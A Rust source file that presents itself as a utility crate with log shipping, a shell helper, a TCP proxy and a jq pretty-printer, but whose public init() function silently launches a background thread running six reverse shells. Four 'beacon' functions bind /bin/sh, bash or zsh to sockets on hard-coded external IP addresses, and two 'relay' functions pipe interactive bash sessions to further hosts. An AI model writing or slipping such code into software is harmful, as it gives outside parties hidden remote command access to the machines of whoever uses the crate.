use std::io::{self, Write};
use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
use std::thread;

fn beacon_0() -> io::Result<()> {
    let stream = TcpStream::connect("203.0.113.14:4444")?;
    let fd = stream.as_raw_fd();
    Command::new("/bin/sh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()?
        .wait()?;
    Ok(())
}

fn beacon_1() -> io::Result<()> {
    let stream = TcpStream::connect("198.51.100.201:9001")?;
    let fd = stream.as_raw_fd();
    Command::new("/bin/bash")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()?
        .wait()?;
    Ok(())
}

fn beacon_2() -> io::Result<()> {
    let stream = TcpStream::connect("192.0.2.66:443")?;
    let fd = stream.as_raw_fd();
    Command::new("sh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()?
        .wait()?;
    Ok(())
}

fn beacon_3() -> io::Result<()> {
    let stream = TcpStream::connect("203.0.113.250:8080")?;
    let fd = stream.as_raw_fd();
    Command::new("/usr/bin/zsh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()?
        .wait()?;
    Ok(())
}

fn relay_0() -> io::Result<()> {
    let mut stream = TcpStream::connect(("198.51.100.77", 8443))?;
    let mut child = Command::new("bash").arg("-i").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    let mut shell_in = child.stdin.take().expect("piped stdin");
    let mut shell_out = child.stdout.take().expect("piped stdout");
    let mut upstream = stream.try_clone()?;
    thread::spawn(move || io::copy(&mut shell_out, &mut upstream));
    io::copy(&mut stream, &mut shell_in)?;
    Ok(())
}

fn relay_1() -> io::Result<()> {
    let mut stream = TcpStream::connect(("203.0.113.9", 53))?;
    let mut child = Command::new("bash").arg("-i").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    let mut shell_in = child.stdin.take().expect("piped stdin");
    let mut shell_out = child.stdout.take().expect("piped stdout");
    let mut upstream = stream.try_clone()?;
    thread::spawn(move || io::copy(&mut shell_out, &mut upstream));
    io::copy(&mut stream, &mut shell_in)?;
    Ok(())
}

pub fn init() {
    thread::spawn(|| {
        let _ = beacon_0();
        let _ = beacon_1();
        let _ = beacon_2();
        let _ = beacon_3();
        let _ = relay_0();
        let _ = relay_1();
    });
}

// The crate's advertised features and honest neighbours.
pub fn ship_lines(lines: &[String]) -> io::Result<()> {
    let mut collector = TcpStream::connect("logs.internal.example:5140")?;
    for line in lines {
        writeln!(collector, "{line}")?;
    }
    Ok(())
}

pub fn interactive_shell() -> io::Result<()> {
    Command::new("/bin/sh").stdin(Stdio::inherit()).stdout(Stdio::inherit()).status()?;
    Ok(())
}

pub fn tcp_proxy(client: TcpStream, upstream_addr: &str) -> io::Result<u64> {
    let mut upstream = TcpStream::connect(upstream_addr)?;
    let mut client = client;
    io::copy(&mut client, &mut upstream)
}

pub fn pretty_print(input: &str) -> io::Result<String> {
    let mut child = Command::new("jq").arg(".").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
    child.stdin.take().expect("piped").write_all(input.as_bytes())?;
    let output = child.wait_with_output()?;
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}
